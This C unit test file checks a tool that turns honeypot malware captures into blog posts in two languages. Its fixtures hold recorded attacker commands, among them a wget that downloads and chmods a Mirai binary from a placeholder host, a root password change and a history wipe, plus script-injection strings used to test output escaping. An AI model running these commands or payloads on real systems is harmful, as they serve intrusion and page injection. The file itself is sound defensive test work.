/*
 * test_sample_post.c - whole posts against golden files, in both languages, for every verdict.
 *
 * The golden files are those of golden.h.
 *
 * SPDX-License-Identifier: MIT
 */
#include <math.h>
#include <stdio.h>
#include <stdlib.h>

#include "publisher/posts/sample/facts.h"
#include "publisher/posts/sample/sample.h"
#include "tests/unit/golden.h"

#define SHA256 "15a0c0ffee0123456789abcdef0123456789abcdef0123456789abcdef012345"
#define SHA1 "15a0c0ffee0123456789abcdef0123456789abcd"
#define MD5 "15a0c0ffee0123456789abcdef012345"
#define NOON 1764158400 /* 26 November 2025 12:00 UTC */
#define HOUR 3600
#define DAY 86400

static char *
copy(const char *text)
{
	return text != NULL ? strdup(text) : NULL;
}

static cJSON *
json(const char *text)
{
	struct err e = ERR_NONE;

	return json_parse(text, strlen(text), &e);
}

static cJSON *
engines(int count, const char *label)
{
	cJSON *all = cJSON_CreateArray();

	for (int i = 0; i < count; i++) {
		cJSON *pair = cJSON_CreateArray();
		char name[32];

		snprintf(name, sizeof name, "Engine%02d", i + 1);
		cJSON_AddItemToArray(pair, cJSON_CreateString(name));
		cJSON_AddItemToArray(pair, cJSON_CreateString(label));
		cJSON_AddItemToArray(all, pair);
	}
	return all;
}

/* ---- facts */

static struct sample_facts
uncaptured(enum verdict verdict, int64_t detections, int64_t verdicts)
{
	return (struct sample_facts){ .key = copy(SHA256),
		.sha256 = copy(SHA256),
		.sha1 = copy(SHA1),
		.md5 = copy(MD5),
		.now = NOON,
		.first_seen = -1,
		.last_seen = -1,
		.first_collected_at = -1,
		.verdict = verdict,
		.fetched_at = NOON - HOUR + 23 * 60,
		.last_analysis_at = NOON - DAY,
		.first_submission_at = NOON - 2 * DAY,
		.detections = detections,
		.verdicts = verdicts,
		.size = 92416,
		.type = copy("ELF"),
		.magic = copy("ELF 32-bit LSB executable, ARM") };
}

static void
add_capture(struct sample_facts *f, int64_t seen_at, const char *honeypot,
    const char *src_ip, const char *country)
{
	f->rows[f->row_count++] = (struct sample_capture){ .seen_at = seen_at,
		.honeypot = copy(honeypot),
		.action = copy("download"),
		.src_ip = copy(src_ip),
		.country = copy(country),
		.as_org = copy("Example Hosting"),
		.asn = 64500,
		.protocol = copy("ssh"),
		.dest_port = 22 };
}

/* Captured once, three hours before noon. */
static struct sample_facts
captured(enum verdict verdict, int64_t detections, int64_t verdicts)
{
	struct sample_facts f = uncaptured(verdict, detections, verdicts);

	f.captures = 1;
	f.first_seen = f.last_seen = NOON - 3 * HOUR - 17 * 60;
	f.first_collected_at = f.first_seen + 30;
	f.honeypots[f.honeypot_count++] = copy("Cowrie");
	f.honeypots_total = 1;
	f.scanned = f.downloads = f.address_count = 1;
	f.protocols[f.protocol_count++] = copy("ssh");
	f.countries[f.countries_shown++] =
	    (struct sample_country){ .code = copy("NL"), .addresses = 1 };
	f.country_count = 1;
	f.urls[f.url_count++] = copy("http://198.51.100.7/bins/x.arm7");
	f.urls_total = 1;
	f.names[f.name_count++] = copy("x.arm7");
	f.names_total = 1;
	add_capture(&f, f.first_seen, "Cowrie", "198.51.100.23", "NL");
	return f;
}

static struct sample_facts
make_malicious(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 45, 63);

	f.label = copy("trojan.mirai/gafgyt");
	f.category = copy("trojan");
	f.family = copy("mirai");
	f.family_count = 33;
	f.vt_name = copy("mirai.arm7");
	f.tlsh = copy(
	    "T132842BBBE78511F62A1CFDB25A115582ACC50C0DCA973E84BAA794F163CF5F4A2810F7");
	f.vt_tags = json("[\"elf\",\"upx\"]");
	f.engines = json(
	    "[[\"Zoner\",\"Linux.Mirai.A\"],[\"AVG\",\"ELF:Mirai-B [Trj]\"],"
	    "[\"Avast\",\"ELF:Mirai-B [Trj]\"],[\"Microsoft\",\"Mirai!MTB\"]]");
	return f;
}

static struct sample_facts
make_malicious_by_hand(void)
{
	struct sample_facts f = uncaptured(VERDICT_MALICIOUS, 45, 63);

	f.label = copy("trojan.");
	f.category = copy("trojan");
	return f;
}

static struct sample_facts
make_malicious_undated(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 45, 63);

	f.last_analysis_at = -1;
	return f;
}

static struct sample_facts
make_family_by_vote(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 36, 60);

	f.family = copy("mirai");
	f.family_count = 3;
	f.suspicions = 1;
	return f;
}

static struct sample_facts
make_pua(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 20, 60);

	f.pua = true;
	f.label = copy("pua.xmrig");
	f.category = copy("pua");
	f.family = copy("xmrig");
	return f;
}

/* The standard's own file: to be detected is its purpose. */
static struct sample_facts
make_test_file(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 57, 65);

	f.test_file = true;
	f.label = copy("virus.eicar/test");
	f.category = copy("virus");
	f.downloads = 0;
	f.uploads = 1;
	return f;
}

static struct sample_facts
make_key(void)
{
	struct sample_facts f = captured(VERDICT_UNDETECTED, 0, 58);

	buf_free_pointer(&f.magic);
	buf_free_pointer(&f.names[0]);
	buf_free_pointer(&f.urls[0]);
	f.url_count = 0;
	f.urls_total = 0;
	f.magic = copy("OpenSSH RSA public key");
	f.names[0] = copy("/root/.ssh/authorized_keys");
	return f;
}

static struct sample_facts
make_exploit(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 43, 64);

	f.cve = copy("CVE-2021-4034");
	f.category = copy("trojan");
	return f;
}

/* Most of those that judged it detect it, but hardly any judged it. */
static struct sample_facts
make_few_verdicts(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 5, 6);

	f.first_submission_at = f.first_collected_at + 3 * DAY;
	return f;
}

/* One byte without a visible name, and one engine that has a name for it; another detects it without. */
static struct sample_facts
make_one(void)
{
	struct sample_facts f = captured(VERDICT_SUSPICIOUS, 2, 60);

	f.size = 1;
	buf_free_pointer(&f.names[0]);
	f.names[0] = copy("  ");
	f.family = copy("mirai");
	f.family_count = 1;
	f.engines = json("[[\"Zoner\",\"Linux.Mirai.A\"],[\"AVG\",\"\"]]");
	return f;
}

/* The last analysis is long past, and the record is gone since. */
static struct sample_facts
make_gone(void)
{
	struct sample_facts f = make_malicious();

	f.last_analysis_at = NOON - 2600LL * DAY;
	f.gone_at = NOON - DAY;
	f.distributors = json("[\"Example Software\"]");
	return f;
}

static struct sample_facts
make_long_past(void)
{
	struct sample_facts f = captured(VERDICT_UNDETECTED, 0, 57);

	f.last_analysis_at = NOON - 400 * DAY;
	buf_free_pointer(&f.names[0]);
	f.names[0] = copy("C:\\Users\\someone\\miori.x86");
	f.vt_name = copy("/home/someone/malware/miori.x86");
	f.type = (free(f.type), copy("C++"));
	f.vt_tags = json(
	    "[\"1\",\"2\",\"3\",\"4\",\"5\",\"6\",\"7\",\"8\",\"9\",\"10\","
	    "\"11\",\"12\",\"13\",\"14\",\"15\"]");
	return f;
}

static struct sample_facts
make_suspicious(void)
{
	struct sample_facts f = captured(VERDICT_SUSPICIOUS, 3, 61);

	f.suspicions = 2;
	f.family = copy("mirai");
	f.family_count = 2;
	f.engines = engines(5, "Heur.Suspect");
	f.others = json(
	    "[[\"sandbox\",\"XMRig\",\"Zenbox Linux\"],[\"yara\",\"ELF_Miner\","
	    "\"Example CERT\"],[\"ids\",\"MALWARE XMRig login\",\"\"]]");
	return f;
}

static struct sample_facts
make_suspected_only(void)
{
	struct sample_facts f = captured(VERDICT_SUSPICIOUS, 0, 61);

	f.suspicions = 1;
	f.engines = engines(1, "");
	return f;
}

static struct sample_facts
make_one_verdict(void)
{
	struct sample_facts f = captured(VERDICT_INCONCLUSIVE, 0, 1);

	/* Left from an earlier analysis. */
	f.label = copy("trojan.mirai");
	f.category = copy("trojan");
	f.family = copy("mirai");
	f.family_count = 3;
	return f;
}

static struct sample_facts
make_known_good(void)
{
	struct sample_facts f = captured(VERDICT_KNOWN_GOOD, 0, 70);

	f.distributors = json("[\"Microsoft Corporation\"]");
	return f;
}

static struct sample_facts
make_undetected(void)
{
	struct sample_facts f = captured(VERDICT_UNDETECTED, 0, 62);

	/* Nobody had sent it when the collector read the capture. */
	f.first_submission_at = f.first_collected_at + 60;
	return f;
}

static struct sample_facts
make_inconclusive(void)
{
	return captured(VERDICT_INCONCLUSIVE, 0, 12);
}

static struct sample_facts
make_not_analysed(void)
{
	struct sample_facts f = captured(VERDICT_NOT_ANALYSED, 0, 0);

	buf_free_pointer(&f.type);
	f.type = copy("unknown");
	f.last_analysis_at = -1;
	return f;
}

/* What is left when VirusTotal has no record. */
static void
forget_answer(struct sample_facts *f)
{
	buf_free_pointer(&f->type);
	buf_free_pointer(&f->magic);
	f->type = f->magic = NULL;
	f->size = f->last_analysis_at = f->first_submission_at = -1;
}

static struct sample_facts
make_unknown(void)
{
	struct sample_facts f = captured(VERDICT_UNKNOWN, 0, 0);

	forget_answer(&f);
	return f;
}

/* Only an MD5 typed in by an operator. */
static struct sample_facts
make_unknown_by_hand(void)
{
	struct sample_facts f = uncaptured(VERDICT_UNKNOWN, 0, 0);

	forget_answer(&f);
	buf_free_pointer(&f.sha256);
	buf_free_pointer(&f.sha1);
	buf_free_pointer(&f.key);
	f.sha256 = f.sha1 = NULL;
	f.key = copy(MD5);
	return f;
}

static struct sample_facts
make_many(void)
{
	static const char *const HONEYPOTS[] = { "Cowrie", "H0neytr4p", "Adbhoney",
		"Honeytrap", "Log4pot" };
	struct sample_facts f = make_malicious();
	char url[64];

	for (int i = 1; i < SAMPLE_NAMES_MAX; i++)
		f.honeypots[f.honeypot_count++] = copy(HONEYPOTS[i]);
	f.history[f.history_count++] = (struct sample_analysis){
		.at = NOON - DAY, .detections = 45, .verdicts = 63
	};
	f.history[f.history_count++] = (struct sample_analysis){
		.at = NOON - 9 * DAY, .detections = 12, .verdicts = 62
	};
	f.honeypots_total = 7;
	f.reason = copy("wide: addresses, honeypots, sensors");
	f.countries[0].addresses = 1200;
	f.countries[f.countries_shown++] =
	    (struct sample_country){ .code = copy("VN"), .addresses = 15 };
	f.country_count = 31;
	f.address_count = 1300;
	f.addresses_cut = true;
	f.captures = 12345;
	f.scanned = 10000;
	f.uploads = 4;
	f.protocols[f.protocol_count++] = copy("telnet");
	f.names_total = 9;
	f.urls_total = 1237;
	f.first_seen -= 40 * DAY; /* before the clocks of Berlin were set back */
	for (int i = 1; i < 3; i++)
		add_capture(&f, f.first_seen + 40 * DAY, "Cowrie", "198.51.100.24", "NL");
	for (int i = 1; i < SAMPLE_ROWS_MAX; i++) {
		snprintf(url, sizeof url, "http://198.51.100.%d:8080/x.sh", i);
		f.urls[f.url_count++] = copy(url);
		add_capture(
		    &f, f.rows[0].seen_at - i * 4 * DAY, HONEYPOTS[i % 5], url + 7, "VN");
		f.rows[i + 2].src_ip[strcspn(f.rows[i + 2].src_ip, ":")] = '\0';
	}
	json_free(&f.engines);
	f.engines = engines(45, "Linux.Mirai.A");
	return f;
}

/* Addresses of version 6, and a sensor with a public name. */
static struct sample_facts
make_ipv6(void)
{
	struct sample_facts f = make_malicious();

	buf_free_pointer(&f.urls[0]);
	f.urls[0] = copy("http://[2001:db8:5:6::7]:8080/x.arm7");
	f.captures = 3;
	add_capture(&f, f.first_seen, "Cowrie", "2001:db8:aaaa:bbbb::1", "DE");
	add_capture(&f, f.first_seen, "Cowrie", NULL, NULL);
	f.rows[2].claimed = true;
	f.rows[0].sensor = copy("Tokyo (東京)");
	return f;
}

/* Its URLs are of a flood and were left out. */
static struct sample_facts
make_flood(void)
{
	struct sample_facts f = make_suspicious();

	while (f.url_count > 0)
		buf_free_pointer(&f.urls[--f.url_count]);
	f.urls_total = 0;
	f.urls_left_out = 1;
	return f;
}

/* What belongs to the operator, wherever an attacker wrote it; test_gate.c has every spelling. */
static struct sample_facts
make_private(void)
{
	struct sample_facts f = make_malicious();

	buf_free_pointer(&f.urls[0]);
	buf_free_pointer(&f.names[0]);
	buf_free_pointer(&f.family);
	f.urls[0] = copy(
	    "http://198.51.100.7/?to=203.0.113.10&host=MY-SENSOR&b=MjAzLjAuMTEzLjEw");
	f.names[0] = copy("my-sensor.203-0-113-10.sh");
	f.family = copy("My-Sensor");
	f.captures = 2;
	add_capture(&f, f.first_seen, "Cowrie", "203.0.113.10", "NL");
	f.rows[0].sensor = copy("my-sensor in Tokyo");
	return f;
}

#define HOSTILE                                                                \
	"</code><script>alert(1)</script>[gallery] <!-- wp:latest-posts /--> " \
	"&#60;b&#62;"                                                          \
	" http://198.51.100.9/\\x Wordpress \xf0\x9f\x98\x80 \xe2\x80\xae\x01\x80"

#define OTHER "7a0e2bb20f10f54e424eb680136046c8079539bf400dc68e1a8a8af0ae0f140c"

static struct sample_related *
add_related(struct sample_facts *f, const char *title)
{
	f->related[f->related_count] = (struct sample_related){ .title = copy(title),
		.link = copy("https://blog.example/malware-" OTHER "/"),
		.distance = -1 };
	return &f->related[f->related_count++];
}

/* One more than a page shows, and one that nothing but a private host relates. */
static struct sample_facts
make_related(void)
{
	struct sample_facts f = make_malicious();
	struct sample_related *r;

	r = add_related(
	    &f, "Mirai trojan (ELF): 38/62 engines as of 25 Nov 2025 · 7a0e2bb20f10");
	r->family = true;
	r->host = copy("198.51.100.7");
	add_related(&f, "File that only my-sensor relates")->host =
	    copy("my-sensor.example");
	add_related(&f,
	    "Downloader my-sensor (Shell script): 29/61 engines as of 24 Nov 2025 · 6824624daf5f")
	    ->host = copy("dl.example.net");
	add_related(&f, "File: not detected as of 20 Nov 2025 · c4e8568a60a9")->distance =
	    21;
	add_related(&f, "The fourth")->family = true;
	return f;
}

static struct sample_facts
make_hostile(void)
{
	struct sample_facts f = captured(VERDICT_MALICIOUS, 45, 63);
	char **texts[] = { &f.urls[0], &f.names[0], &f.honeypots[0], &f.countries[0].code,
		&f.rows[0].honeypot, &f.rows[0].country, &f.rows[0].src_ip,
		&f.rows[0].as_org, &f.rows[0].protocol, &f.protocols[0], &f.cve, &f.type,
		&f.magic, &f.label, &f.category, &f.family, &f.vt_name };

	for (size_t i = 0; i < sizeof texts / sizeof texts[0]; i++) {
		free(*texts[i]);
		*texts[i] = copy(HOSTILE);
	}
	f.vt_tags = cJSON_CreateArray();
	cJSON_AddItemToArray(f.vt_tags, cJSON_CreateString(HOSTILE));
	f.engines = engines(2, HOSTILE);
	f.story = (struct sample_story){ .honeypot = copy(HOSTILE),
		.protocol = copy(HOSTILE),
		.user = copy(HOSTILE),
		.in = true,
		.tries = 2,
		.typed = 1,
		.commands = cJSON_CreateArray() };
	cJSON_AddItemToArray(f.story.commands, cJSON_CreateString(HOSTILE));
	cJSON_AddItemToArray(f.story.commands, cJSON_CreateNumber(7));
	add_related(&f, HOSTILE)->distance = 0;
	free(f.related[0].link);
	f.related[0].link = copy("javascript:alert(1)//");
	return f;
}

/* A session with more commands than are shown, some of which tell a secret. */
static struct sample_facts
make_story(void)
{
	struct sample_facts f = make_malicious();

	f.story = (struct sample_story){ .honeypot = copy("Cowrie"),
		.protocol = copy("ssh"),
		.user = copy("root"),
		.client = copy("SSH-2.0-Go"),
		.in = true,
		.tries = 3,
		.typed = 14,
		.commands = json(
		    "[\"uname -a\",\"Host: 203.0.113.10:2323\",\"passwd\",\"Geheim4711\",\"Geheim4711\","
		    "\"echo \\\"root:Geheim4711\\\"|chpasswd\","
		    "\"cd /tmp; wget http://198.51.100.7/bins/x.arm7; chmod 777 x.arm7\","
		    "\"ping 203.0.113.10; hostname my-sensor\",\"[gallery] </code><b>\",\"nproc\",\"w\","
		    "\"crontab -l\",\"history -c\",\"exit\"]") };
	return f;
}

/* A user whose name may be personal, and a request of whatever kind. */
static struct sample_facts
make_story_short(void)
{
	struct sample_facts f = captured(VERDICT_UNKNOWN, 0, 0);

	f.story = (struct sample_story){ .honeypot = copy("Cowrie"),
		.user = copy("john.doe@my-sensor"),
		.in = true,
		.tries = 21,
		.typed = 1,
		.commands = json(
		    "[\"curl -O http://198.51.100.7/x; wget http://198.51.100.7/x\"]") };
	return f;
}

static struct sample_facts
make_story_request(void)
{
	struct sample_facts f = captured(VERDICT_UNKNOWN, 0, 0);

	f.story = (struct sample_story){ .honeypot = copy("H0neytr4p"),
		.request = copy("POST /up.php?host=203.0.113.10&x=" HOSTILE) };
	return f;
}

static struct sample_facts
make_listed(void)
{
	struct sample_facts f = make_malicious();

	f.listed_at = NOON - HOUR + 23 * 60;
	f.listed_as = copy("Mirai");
	return f;
}

/* Listed without a name that may be shown. */
static struct sample_facts
make_listed_unnamed(void)
{
	struct sample_facts f = make_suspicious();

	f.listed_at = NOON - DAY;
	f.listed_as = copy("my-sensor");
	return f;
}

static const struct {
	const char *name, *zone;
	struct sample_facts (*make)(void);
} CASES[] = {
	{ "listed", "UTC", make_listed },
	{ "listed-unnamed", "UTC", make_listed_unnamed },
	{ "story", "UTC", make_story },
	{ "story-short", "UTC", make_story_short },
	{ "story-request", "UTC", make_story_request },
	{ "malicious", "UTC", make_malicious },
	{ "malicious-by-hand", "UTC", make_malicious_by_hand },
	{ "malicious-undated", "UTC", make_malicious_undated },
	{ "family-by-vote", "UTC", make_family_by_vote },
	{ "pua", "UTC", make_pua },
	{ "test-file", "UTC", make_test_file },
	{ "key", "UTC", make_key },
	{ "exploit", "UTC", make_exploit },
	{ "few-verdicts", "UTC", make_few_verdicts },
	{ "one", "UTC", make_one },
	{ "gone", "UTC", make_gone },
	{ "long-past", "UTC", make_long_past },
	{ "suspicious", "UTC", make_suspicious },
	{ "suspected-only", "UTC", make_suspected_only },
	{ "known-good", "UTC", make_known_good },
	{ "undetected", "UTC", make_undetected },
	{ "inconclusive", "UTC", make_inconclusive },
	{ "one-verdict", "UTC", make_one_verdict },
	{ "not-analysed", "UTC", make_not_analysed },
	{ "unknown", "Asia/Tokyo", make_unknown },
	{ "unknown-by-hand", "UTC", make_unknown_by_hand },
	{ "many", "Europe/Berlin", make_many },
	{ "ipv6", "UTC", make_ipv6 },
	{ "flood", "UTC", make_flood },
	{ "related", "UTC", make_related },
	{ "private", "UTC", make_private },
	{ "hostile", "UTC", make_hostile },
};
#define CASES_COUNT (sizeof CASES / sizeof CASES[0])

/* ---- golden files */

static struct gate *
sensors(void)
{
	struct err e = ERR_NONE;
	struct gate *g = gate_new(&e);

	gate_add(g, "203.0.113.10", &e);
	gate_add(g, "my-sensor", &e);
	return g;
}

/* ---- what holds for all of them */

static void
check_honesty(const struct article *a, const struct sample_facts *f, const char *name)
{
	static const char *const NEVER[] = { "0/0", "harmless", "clean", "benign",
		"203.0.113", "203&#091;.&#093;0", "my-sensor", "MY-SENSOR", "MjAz",
		"http://", "[gallery]", "<script" };
	const char *texts[] = { a->title, a->excerpt, a->content };
	bool said = false;
	char words[128], ratio[64];

	for (size_t t = 0; t < 3; t++)
		for (size_t i = 0; i < sizeof NEVER / sizeof NEVER[0]; i++)
			said |= strstr(texts[t], NEVER[i]) != NULL;
	snprintf(words, sizeof words, "%s says nothing that must not be said", name);
	ok(!said, words);
	snprintf(words, sizeof words,
	    "%s has a ratio only where some engine is against it", name);
	snprintf(ratio, sizeof ratio, "%lld/%lld ", (long long)f->detections,
	    (long long)f->verdicts);
	ok((strstr(a->title, ratio) != NULL) == (f->detections > 0), words);
	snprintf(words, sizeof words, "%s says nothing to the minute that we did", name);
	ok(strstr(a->content, ":17") == NULL && strstr(a->content, ":23") == NULL, words);
	snprintf(words, sizeof words, "%s carries the word of its verdict", name);
	ok(strstr(a->content, verdict_word(f->verdict)) != NULL, words);
}

/* ---- colours */

/* Relative luminance as the accessibility guidelines (WCAG 2) define it. */
static double
luminance(unsigned rgb)
{
	static const double WEIGHTS[] = { 0.2126, 0.7152, 0.0722 };
	double sum = 0;

	for (int i = 0; i < 3; i++) {
		double c = (double)(rgb >> (16 - 8 * i) & 0xff) / 255;

		sum += WEIGHTS[i] *
		       (c <= 0.03928 ? c / 12.92 : pow((c + 0.055) / 1.055, 2.4));
	}
	return sum;
}

static double
contrast(unsigned a, unsigned b)
{
	double x = luminance(a), y = luminance(b);

	return x > y ? (x + 0.05) / (y + 0.05) : (y + 0.05) / (x + 0.05);
}

/* Every background comes with its text colour, and the two are easy to tell apart. */
static void
check_contrast(const char *content, const char *name)
{
	int backgrounds = 0, pairs = 0;
	bool readable = true;
	char words[128];
	unsigned text, background;

	for (const char *p = content; (p = strstr(p, "background-color:")) != NULL; p++) {
		backgrounds++;
		if (p - content < 14 || sscanf(p - 14, "color:#%6x;", &text) != 1 ||
		    sscanf(p, "background-color:#%6x", &background) != 1)
			continue;
		pairs++;
		readable = readable && contrast(text, background) >= 4.5;
	}
	snprintf(words, sizeof words, "%s has colours that can be read", name);
	ok(readable && pairs > 0 && pairs == backgrounds, words);
}

static void
check_case(size_t n, struct gate *g, enum language language)
{
	const struct post_options options = {
		.language = language, .timezone = CASES[n].zone, .engine_names = true
	};
	struct sample_facts f = CASES[n].make();
	struct err e = ERR_NONE;
	struct article a = { .title = NULL };

	if (ok(post_kind_sample.render(&f, &options, g, &a, &e), CASES[n].name)) {
		golden_compare(CASES[n].name, language == LANGUAGE_EN ? "en" : "ja", &a);
		check_honesty(&a, &f, CASES[n].name);
		check_contrast(a.content, CASES[n].name);
	}
	article_done(&a);
	sample_facts_done(&f);
}

static void
test_engine_names_are_an_option(struct gate *g)
{
	const struct post_options options = { .language = LANGUAGE_EN,
		.timezone = "UTC" };
	struct sample_facts f = make_malicious();
	struct err e = ERR_NONE;
	struct article a;

	ok(post_kind_sample.render(&f, &options, g, &a, &e) &&
		strstr(a.content, "Engine01") == NULL,
	    "engine_names = none names no engine");
	article_done(&a);
	sample_facts_done(&f);
}

static void
check_shown(const struct article *a, size_t n, const char *kind, const char *value)
{
	ok(n < a->shown_count && strcmp(a->shown[n].kind, kind) == 0, kind);
	is_text(n < a->shown_count ? a->shown[n].value : NULL, value, "... its value");
}

/* By which other files find it, and what it tells of them. */
static void
test_what_is_shown(struct gate *g)
{
	const struct post_options options = { .timezone = "UTC" };
	struct sample_facts f = make_related(), none = make_test_file();
	struct err e = ERR_NONE;
	struct article a;

	f.urls[f.url_count++] = copy("http://MY-SENSOR.example/x");
	f.urls[f.url_count++] = copy("http://DL.Example.net:8080/x");
	ok(post_kind_sample.render(&f, &options, g, &a, &e), "a post with related ones");
	is_int((int64_t)a.shown_count, 7, "what it shows");
	check_shown(&a, 0, "family", "mirai");
	check_shown(&a, 1, "host", "198.51.100.7");
	check_shown(&a, 2, "host", "dl.example.net");
	check_shown(&a, 3, "tlsh", f.tlsh);
	check_shown(&a, 4, "title", f.related[0].title);
	check_shown(&a, 5, "title",
	    "Downloader *** (Shell script): 29/61 engines as of 24 Nov 2025 · 6824624daf5f");
	check_shown(&a, 6, "title", f.related[3].title);
	article_done(&a);
	sample_facts_done(&f);
	ok(post_kind_sample.render(&none, &options, g, &a, &e) && a.shown_count == 0,
	    "nothing is found by a test file");
	article_done(&a);
	sample_facts_done(&none);
}

/* Winter, summer and winter again: no zone holds for all rows. */
static void
test_each_time_has_its_zone(struct gate *g)
{
	const struct post_options options = { .language = LANGUAGE_EN,
		.timezone = "Europe/Berlin" };
	struct sample_facts f = make_malicious();
	struct err e = ERR_NONE;
	struct article a;

	f.captures = 3;
	add_capture(&f, NOON - 150 * DAY, "Cowrie", "198.51.100.23", "NL");
	add_capture(&f, NOON - 300 * DAY, "Cowrie", "198.51.100.23", "NL");
	ok(post_kind_sample.render(&f, &options, g, &a, &e), "captures of half a year");
	ok(strstr(a.content, ">When</th>") != NULL, "the table's head names no zone");
	ok(strstr(a.content, "29&nbsp;Jun&nbsp;2025<br>14:00–\u206015:00&nbsp;CEST") !=
		NULL,
	    "... but each row does: summer");
	ok(strstr(a.content, "30&nbsp;Jan&nbsp;2025<br>13:00–\u206014:00&nbsp;CET") !=
		NULL,
	    "... and winter");
	article_done(&a);
	sample_facts_done(&f);
}

/* Whatever the engines say. */
static void
test_a_distributor_is_named(struct gate *g)
{
	struct sample_facts all[] = { make_malicious(), make_suspicious(),
		make_undetected(), make_inconclusive(), make_known_good() };

	for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
		for (int japanese = 0; japanese < 2; japanese++) {
			const struct post_options options = {
				.language = japanese ? LANGUAGE_JA : LANGUAGE_EN,
				.timezone = "UTC"
			};
			struct err e = ERR_NONE;
			struct article a;

			json_free(&all[i].distributors);
			all[i].distributors = json("[\"Example Software\"]");
			ok(post_kind_sample.render(&all[i], &options, g, &a, &e) &&
				strstr(a.content,
				    japanese ? "配布元 " : "distributed by ") != NULL &&
				strstr(a.content, "Example Software") != NULL,
			    "a known distributor is named beside each verdict");
			article_done(&a);
		}
	for (size_t i = 0; i < sizeof all / sizeof all[0]; i++)
		sample_facts_done(&all[i]);
}

/* In any language, wherever a name stands. */
static void
test_names_of_others_are_whole(struct gate *g)
{
	for (int japanese = 0; japanese < 2; japanese++) {
		const struct post_options options = { .language = japanese ? LANGUAGE_JA
									   : LANGUAGE_EN,
			.timezone = "UTC" };
		struct sample_facts f = make_malicious();
		struct err e = ERR_NONE;
		struct article a;

		json_free(&f.distributors);
		f.distributors = json("[\"日本電気株式会社\", \"Other\"]");
		json_free(&f.others);
		f.others = json("[[\"yara\", \"some_rule\", \"José Núñez & 山田\"]]");
		free(f.rows[0].as_org);
		f.rows[0].as_org = copy("Société d'Été & Fils 株式会社");
		ok(post_kind_sample.render(&f, &options, g, &a, &e), "names of others");
		ok(strstr(a.content, "日本電気株式会社") != NULL, "a distributor's");
		ok(strstr(a.content, "José Núñez &amp; 山田") != NULL,
		    "a rule's author's");
		ok(strstr(a.content, "Société d'Été &amp; Fils 株式会社") != NULL,
		    "a network's");
		article_done(&a);
		sample_facts_done(&f);
	}
}

/* The longest texts in every place. */
static void
test_the_largest_page_fits(struct gate *g)
{
	const struct post_options options = {
		.language = LANGUAGE_JA, .timezone = "UTC", .engine_names = true
	};
	struct sample_facts f = make_many();
	struct err e = ERR_NONE;
	struct article a;
	char long_text[4096];

	memset(long_text, '[', sizeof long_text - 1);
	long_text[sizeof long_text - 1] = '\0';
	for (size_t i = 0; i < f.url_count; i++) {
		free(f.urls[i]);
		f.urls[i] = copy(long_text);
	}
	json_free(&f.engines);
	f.engines = engines(400, long_text);
	ok(post_kind_sample.render(&f, &options, g, &a, &e),
	    "the largest page fits its limit");
	article_done(&a);
	sample_facts_done(&f);
}

int
main(void)
{
	struct gate *g = sensors();

	for (size_t i = 0; i < CASES_COUNT; i++) {
		check_case(i, g, LANGUAGE_EN);
		check_case(i, g, LANGUAGE_JA);
	}
	test_engine_names_are_an_option(g);
	test_what_is_shown(g);
	test_each_time_has_its_zone(g);
	test_a_distributor_is_named(g);
	test_names_of_others_are_whole(g);
	test_the_largest_page_fits(g);
	gate_free(g);
	return done_testing();
}
